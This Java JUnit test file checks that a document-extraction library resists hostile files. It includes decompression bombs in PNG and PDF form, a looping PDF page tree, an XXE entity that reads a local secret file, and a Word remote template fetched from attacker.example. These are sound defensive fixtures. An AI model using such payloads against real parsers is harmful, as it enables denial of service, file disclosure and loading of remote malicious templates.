package org.aidememoire.attachment.extraction;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** Files made to exhaust or to deceive; each must cost little and end with a verdict. */
@Timeout(60)
class HostileFilesTest extends ExtractedFiles {

  @Test
  void aPictureOfAThousandMillionPixelsIsRefusedByItsHeader() throws Exception {
    refused(Refusal.UNPACKS_TOO_LARGE, samples.bytes("bomb.png", png(40_000, 30_000)));
  }

  @Test
  void aPageThatUnpacksToAGigabyteOfCommandsIsGivenUp() throws Exception {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (DeflaterOutputStream out =
        new DeflaterOutputStream(packed, new Deflater(Deflater.BEST_COMPRESSION))) {
      byte[] commands = "q Q ".repeat(1 << 16).getBytes(StandardCharsets.US_ASCII);
      for (int i = 0; i < 4096; i++) {
        out.write(commands); // 1 GB in all
      }
    }
    Outcome outcome = check(samples.bytes("bomb.pdf", onePage(packed.toByteArray())));
    assertEquals(List.of(), assertInstanceOf(Outcome.Sound.class, outcome).toBeRead());
  }

  @Test
  void aPageTreeThatLeadsBackToItselfIsRefused() throws Exception {
    String loop =
        """
        %PDF-1.4
        1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj
        2 0 obj <</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>> endobj
        trailer <</Root 1 0 R>>
        startxref
        0
        %%EOF
        """;
    Outcome outcome = check(samples.text("loop.pdf", loop));
    assertTrue(outcome instanceof Outcome.Refused, "" + outcome);
  }

  @Test
  void entitiesInXmlNeitherGrowNorFetch() throws Exception {
    Path secret = samples.text("secret.txt", "the secret");
    String document =
        """
        <?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "%s">]>
        <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
        <w:body><w:p><w:r><w:t>before &x; after</w:t></w:r></w:p></w:body></w:document>
        """
            .formatted(secret.toUri());
    Path file =
        samples.with(
            samples.word("x.docx", "x"),
            Map.of("word/document.xml", document.getBytes(StandardCharsets.UTF_8)));
    Outcome outcome = check(file);
    assertTrue(!outcome.toString().contains("the secret"), "" + outcome);
  }

  @Test
  void aTemplateFetchedFromElsewhereIsRefused() throws Exception {
    String relations =
        """
        <?xml version="1.0"?>
        <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
        <Relationship Id="r1" TargetMode="External" Target="http://attacker.example/t.dotm"
         Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>
        </Relationships>
        """;
    refused(
        Refusal.ACTIVE_CONTENT,
        samples.with(
            samples.word("x.docx", "x"),
            Map.of("word/_rels/settings.xml.rels", relations.getBytes(StandardCharsets.UTF_8))));
  }

  @Test
  void tagsNestedWithoutEndGetAVerdict() throws Exception {
    Outcome outcome =
        check(samples.text("deep.html", "<html>" + "<div>".repeat(200_000) + "wages"));
    assertTrue(
        outcome instanceof Outcome.Sound || outcome instanceof Outcome.Refused, "" + outcome);
  }

  @Test
  void aTextOfAHundredMegabytesKeepsWhatTheBoundAllows() throws Exception {
    Path file = folder.resolve("long.txt");
    byte[] line = "wages are paid monthly to every worker\n".getBytes(StandardCharsets.UTF_8);
    try (var out = new java.io.BufferedOutputStream(Files.newOutputStream(file))) {
      for (long size = 0; size < 100L << 20; size += line.length) {
        out.write(line);
      }
    }
    Outcome.Sound found = assertInstanceOf(Outcome.Sound.class, check(file));
    assertTrue(found.cut());
    long kept = found.pieces().stream().mapToLong(piece -> piece.text().length()).sum();
    assertTrue(kept > 19_000_000 && kept <= 20_000_000, "" + kept);
  }

  @Test
  void aTextOfNothingButHeadingsKeepsWhatTheBoundAllows() throws Exception {
    StringBuilder text = new StringBuilder();
    for (int i = 1; i <= Pieces.MOST_PIECES + 1; i++) {
      text.append("Section ").append(i).append('\n');
    }
    Outcome.Sound found = sound(samples.text("headings.txt", text.toString()));
    assertEquals(Pieces.MOST_PIECES, found.pieces().size());
    assertTrue(found.cut());
  }

  @Test
  void theNameOfASheetIsShortenedOnEachOfItsPieces() throws Exception {
    String name = "n".repeat(1_000_000);
    Path file =
        samples.with(
            samples.sheet(
                "a.xlsx", book -> book.createSheet("a").createRow(0).createCell(0).setCellValue(1)),
            Map.of(
                "xl/workbook.xml",
                """
                <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
                  xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
                  <sheets><sheet name="%s" sheetId="1" r:id="rId3"/></sheets></workbook>
                """
                    .formatted(name)
                    .getBytes(StandardCharsets.UTF_8)));
    Outcome.Sound found = sound(file);
    assertEquals(
        List.of(Pieces.LONGEST_LABEL),
        found.pieces().stream().map(piece -> piece.label().length()).toList());
  }

  @Test
  void aPageWhosePictureHasThousandsOfMillionsOfPixelsCostsOnlyItself() throws Exception {
    byte[] image =
        ("%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"
                + "2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
                + "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
                + "/Resources<</XObject<</I 5 0 R>>>>>> endobj\n"
                + "4 0 obj <</Length 30>> stream\nq 595 0 0 842 0 0 cm /I Do Q  \nendstream endobj\n"
                + "5 0 obj <</Type/XObject/Subtype/Image/Width 50000/Height 50000/BitsPerComponent 8"
                + "/ColorSpace/DeviceRGB/Length 3>> stream\nabc\nendstream endobj\n"
                + "trailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF\n")
            .getBytes(StandardCharsets.US_ASCII);
    Path file = samples.bytes("huge.pdf", image);
    assertEquals(List.of(1), sound(file).toBeRead());
    Outcome read = PROCESS.read(file, new Hints("", ""), FileKind.PDF, List.of("eng"), List.of(1));
    if (read instanceof Outcome.Read pages) {
      assertEquals("", text(pages.pieces()));
    } else {
      assertInstanceOf(Outcome.Died.class, read);
    }
  }

  private static byte[] png(int width, int height) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
    var header = java.nio.ByteBuffer.allocate(13).putInt(width).putInt(height);
    chunk(out, "IHDR", header.put(new byte[] {8, 0, 0, 0, 0}).array());
    chunk(out, "IDAT", new byte[] {0x78, (byte) 0x9c, 3, 0, 0, 0, 0, 1});
    chunk(out, "IEND", new byte[0]);
    return out.toByteArray();
  }

  private static void chunk(ByteArrayOutputStream out, String type, byte[] data)
      throws IOException {
    byte[] name = type.getBytes(StandardCharsets.US_ASCII);
    CRC32 sum = new CRC32();
    sum.update(name);
    sum.update(data);
    out.write(java.nio.ByteBuffer.allocate(4).putInt(data.length).array());
    out.write(name);
    out.write(data);
    out.write(java.nio.ByteBuffer.allocate(4).putInt((int) sum.getValue()).array());
  }

  private static byte[] onePage(byte[] content) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(
        ("%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"
                + "2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
                + "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>> endobj\n"
                + "4 0 obj <</Filter/FlateDecode/Length "
                + content.length
                + ">> stream\n")
            .getBytes(StandardCharsets.US_ASCII));
    out.write(content);
    out.write(
        "\nendstream endobj\ntrailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
            .getBytes(StandardCharsets.US_ASCII));
    return out.toByteArray();
  }
}
